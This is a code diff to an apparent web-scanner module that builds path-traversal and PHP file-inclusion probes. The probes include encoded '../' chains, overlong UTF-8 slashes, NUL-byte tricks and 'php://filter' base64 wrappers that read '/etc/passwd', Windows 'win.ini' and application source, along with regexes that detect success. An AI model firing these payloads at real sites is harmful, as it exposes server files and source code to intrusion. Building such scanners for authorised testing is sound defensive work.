@@ -5,11 +5,13 @@ export type KnownFile = {
   /** The same names in an order in which they lead nowhere. */
   nowhere: string;
   pattern: string;
+  /** It is source code of the application, and `path` no path from the root. */
+  isScript?: true;
 };
 
-/** Some writers of JSON put a backslash before it. */
-const slash = '\\\\?/';
-const lineEnd = '(?:\\r?\\n|\\\\n|<br ?/?>)';
+/** Some writers of JSON put a backslash before it, some of HTML write a reference. */
+const slash = '(?:\\\\?/|&#(?:x2[Ff]|47);)';
+const lineEnd = '(?:\\r?\\n|\\\\n|<br ?/?>|&#(?:10|x[Aa]);)';
 
 /** In the order in which they are tried; where a page shows one anyway, the next proves more. Source: passwd(5), group(5). */
 export const unixFiles: readonly KnownFile[] = [
@@ -31,12 +33,33 @@ export const windowsFile: KnownFile = {
   pattern: `(?i)\\[fonts\\]${lineEnd}(?s:.{0,300})\\[(?:extensions|mci extensions|files)\\]`,
 };
 
+/** "root:x:0:0:" as PHP writes it in base64, with what follows it. Where passwords stand in a file of their own, all begin so. */
+export const encodedPasswd: KnownFile = {
+  path: 'etc/passwd',
+  nowhere: 'passwd/etc',
+  pattern: 'cm9vdDp4OjA6MDp[\\w+/]{40}',
+};
+
+/** A script that begins with "<?php" or has that inside, in base64: the three places that a text can have in it. */
+const scriptOf = (name: string): KnownFile => ({
+  path: name,
+  nowhere: '‹nonce›',
+  pattern: '(?:PD9waH|[DTjz]w/cGhw|[AEIMQUYcgkosw048]8P3Boc)[\\w+/]{16}',
+  isScript: true,
+});
+
 /** More steps up than any site stands deep: above the root there is only the root. */
 const depth = 10;
 const up = (step: string) => step.repeat(depth);
 
-/** A way to write a path in a value. `encoded` ones are sent as they are, others percent-encoded once. */
-export type Spelling = { spell(path: string): string; encoded?: true; file?: 'windows' };
+/** A way to write a path in a value. */
+export type Spelling = {
+  spell(path: string): string;
+  /** It is sent as it is, in an address; others are percent-encoded once. */
+  encoded?: true;
+  /** What it reads, where that is no file of Unix in plain text. */
+  file?: KnownFile;
+};
 
 /** Every input is sent these. */
 export const plainSpellings: readonly Spelling[] = [
@@ -45,10 +68,25 @@ export const plainSpellings: readonly Spelling[] = [
 ];
 
 /**
+ * The longer form of a slash, which old decoders of UTF-8 take for the short one. It is no UTF-8 (RFC 3629 §3), and small servers
+ * of Node end at an address that cannot be decoded: only servers that were seen to be of another kind are sent it.
+ */
+export const longSpelling: Spelling = {
+  spell: (path) => up('..%c0%af') + path.replaceAll('/', '%c0%af'),
+  encoded: true,
+};
+const decodersOfOld = /glassfish|tomcat|coyote|jboss|jetty|weblogic|websphere|servlet|jsp|\biis\b/i;
+
+/** By the headers of an origin's answer. */
+export const decodesLongForms = (headers: readonly (readonly [name: string, value: string])[]): boolean =>
+  headers.some(([name, value]) => /^(?:server|x-powered-by)$/i.test(name) && decodersOfOld.test(value));
+
+/**
  * Ways past checks of a value, for inputs that look as if they named files.
  * @param sample a value that the site uses
+ * @param route of the page, whose script may be a file beside those that are read
  */
-export function furtherSpellings(sample: string): Spelling[] {
+export function furtherSpellings(sample: string, route: string): Spelling[] {
   const folder = sample.slice(0, sample.lastIndexOf('/') + 1);
   const extension = /\.\w{1,5}$/.exec(sample)?.[0] ?? '.png';
   return [
@@ -58,11 +96,32 @@ export function furtherSpellings(sample: string): Spelling[] {
     { spell: (path) => up('....//') + path },
     // decoded once more by the application
     { spell: (path) => (up('../') + path).replaceAll('/', '%2f') },
+    { spell: (path) => (up('../') + path).replaceAll('.', '%2e').replaceAll('/', '%2f') },
     // has to end as the site's own values do, in languages whose files end at a NUL
     { spell: (path) => `${up('../')}${path}\0${extension}` },
+    { spell: (path) => `/${path}\0${extension}` },
+    // well-known paths are refused
+    { spell: (path) => `/${path.replaceAll('/', '/.//')}` },
+    // addresses are opened, too
     { spell: (path) => `file:///${path}` },
-    { spell: (path) => up('..\\') + path.replaceAll('/', '\\'), file: 'windows' },
-    { spell: (path) => `c:/${path}`, file: 'windows' },
+    { spell: (path) => `FILE://localhost/${path}?${extension}` },
+    ...throughFilter(sample, route),
+    { spell: (path) => up('..\\') + path.replaceAll('/', '\\'), file: windowsFile },
+    { spell: (path) => `c:/${path}`, file: windowsFile },
+  ];
+}
+
+/** An ending that is appended is no obstacle when the file has it: `include($_GET['page'] . '.php')`. */
+function throughFilter(sample: string, route: string): Spelling[] {
+  const filter = (path: string) => `php://filter/convert.base64-encode/resource=${path}`;
+  const script = /([\w-]+)\.php$/i.exec(route)?.[1] ?? 'index';
+  const scripts = new Set([sample.replace(/\.php$/i, ''), script].filter((name) => /^[\w./-]{1,80}$/.test(name)));
+  return [
+    { spell: (path) => filter(`/${path}`), file: encodedPasswd },
+    ...[...scripts].flatMap((name) => [
+      { spell: filter, file: scriptOf(name) },
+      { spell: (path: string) => filter(`${path}.php`), file: scriptOf(name) },
+    ]),
   ];
 }
 
@@ -72,7 +131,9 @@ export const pathSpellings: readonly Spelling[] = [
   { spell: (path) => up('..%2f') + path.replaceAll('/', '%2f'), encoded: true },
   { spell: (path) => up('%2e%2e/') + path, encoded: true },
   { spell: (path) => up('..%252f') + path.replaceAll('/', '%252f'), encoded: true },
-  { spell: (path) => up('..%5c') + path.replaceAll('/', '%5c'), encoded: true, file: 'windows' },
+  { spell: (path) => up('%2e%2e%2f') + path.replaceAll('/', '%2f'), encoded: true },
+  { spell: (path) => up('%252e%252e%252f') + path.replaceAll('/', '%252f'), encoded: true },
+  { spell: (path) => up('..%5c') + path.replaceAll('/', '%5c'), encoded: true, file: windowsFile },
 ];
 
 const fileNames =
@@ -81,3 +142,7 @@ const fileNames =
 /** An input that says which file to use: by its name, or because the site itself puts one there. */
 export const namesFile = (name: string, sample: string): boolean =>
   fileNames.test(name) || /^[\w./\\-]{1,200}\.[a-z][a-z0-9]{1,4}$/i.test(sample) || /\w\/\w/.test(sample);
+
+/** What languages say when a file that a value names cannot be opened. */
+export const fileError =
+  '(?i)failed to open stream|failed opening|no such file or directory|\\bENOENT\\b|FileNotFound(?:Error|Exception)|could not find file|the system cannot find the (?:file|path)|\\bIOError: \\[Errno|java\\.io\\.|rb_sysopen|no such file to load|TemplateNotFound|TemplateDoesNotExist|failed to lookup view';
